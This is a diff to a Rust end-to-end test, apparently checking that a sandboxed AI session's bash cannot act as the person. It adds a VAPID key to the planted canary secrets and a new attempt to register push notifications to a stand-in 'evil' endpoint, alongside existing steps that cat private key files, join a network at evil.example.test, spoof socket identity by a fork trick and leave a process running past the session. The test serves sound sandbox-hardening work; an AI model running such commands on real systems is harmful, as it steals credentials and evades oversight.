@@ -12,6 +12,10 @@ use crate::threads_e2e::*;
 /// The connect-fork-exit trick: connect, fork, let the connecting parent exit, and send the
 /// request from the child, so that the pid the socket names is dead when it is judged. `mode`
 /// `double` first detaches (setsid, a second fork) and connects from the orphan.
+/// A valid P-256 public key (a browser's `p256dh`), so only who calls can refuse it.
+const P256DH: &str =
+    "BJ2Gl38lQkIuGm5mEJu_eWR2kSFv0z8yRSS-tSXePOTYHZsggO4X6NsfDTJEXniQ3CKCHuRRxQ2Pro1S0Cc0OI4";
+
 const ATTACK: &str = r#"
 import os, socket, sys, time
 path, out, mode = sys.argv[1], sys.argv[2], sys.argv[3]
@@ -94,7 +98,12 @@ async fn a_sandboxed_sessions_bash_never_becomes_a_person() {
     std::fs::write(r.work.join("attack.py"), ATTACK).unwrap();
     std::fs::write(r.home.vyre_home().join("canary.txt"), "vyre-home-canary").unwrap();
     // Where the private network's key and a name's certificate key live (ADR 0018, 0019).
-    for secret in ["network/wireguard.key", "certs/alex.vyre.test/key.pem"] {
+    // and the VAPID key notifications are signed with (ADR 0020).
+    for secret in [
+        "network/wireguard.key",
+        "certs/alex.vyre.test/key.pem",
+        "push/vapid.p8",
+    ] {
         let path = r.home.vyre_home().join(secret);
         std::fs::create_dir_all(path.parent().unwrap()).unwrap();
         std::fs::write(&path, "vyre-key-canary").unwrap();
@@ -110,12 +119,14 @@ async fn a_sandboxed_sessions_bash_never_becomes_a_person() {
          python3 attack.py \"$VYRE_SOCKET\" own-double.txt double; \
          setsid {bin} tools > tools.txt 2>&1; \
          setsid {bin} files preview /etc/hostname > files.txt 2>&1; echo \"exit=$?\" >> files.txt; \
-         cat {home}/network/wireguard.key {home}/certs/*/key.pem > keys.txt 2>&1; \
+         cat {home}/network/wireguard.key {home}/certs/*/key.pem {home}/push/vapid.p8 > keys.txt 2>&1; \
+         setsid {bin} push subscribe --json '{{\"endpoint\":\"https://fcm.googleapis.com/fcm/send/evil\",\"keys\":{{\"p256dh\":\"{p256dh}\",\"auth\":\"AAAAAAAAAAAAAAAAAAAAAA\"}}}}' > push.txt 2>&1; echo \"exit=$?\" >> push.txt; \
          setsid {bin} network join --name evil --endpoint evil.example.test:51820 > join.txt 2>&1; echo \"exit=$?\" >> join.txt; \
          setsid sh -c 'env -i sleep 8765 &'; true",
         bin = BIN,
         home = home.display(),
         main = r.home.home().socket().display(),
+        p256dh = P256DH,
     );
     run_bash(&r, &thread, &script).await;
     let read = |f: &str| std::fs::read_to_string(r.work.join(f)).unwrap_or_default();
@@ -154,6 +165,16 @@ async fn a_sandboxed_sessions_bash_never_becomes_a_person() {
     assert!(
         join.contains("exit=") && !join.contains("exit=0") && !join.contains("PrivateKey"),
         "a session cannot put a device of its own on the private network: {join}"
+    );
+    let push = read("push.txt");
+    assert!(
+        push.contains("exit=") && !push.contains("exit=0"),
+        "a session cannot have the person's notifications sent where it says: {push}"
+    );
+    assert_eq!(
+        r.sock.call("push.list", &json!({})).await.unwrap(),
+        json!([]),
+        "no subscription was made"
     );
     no_device_was_added(&r).await;
 
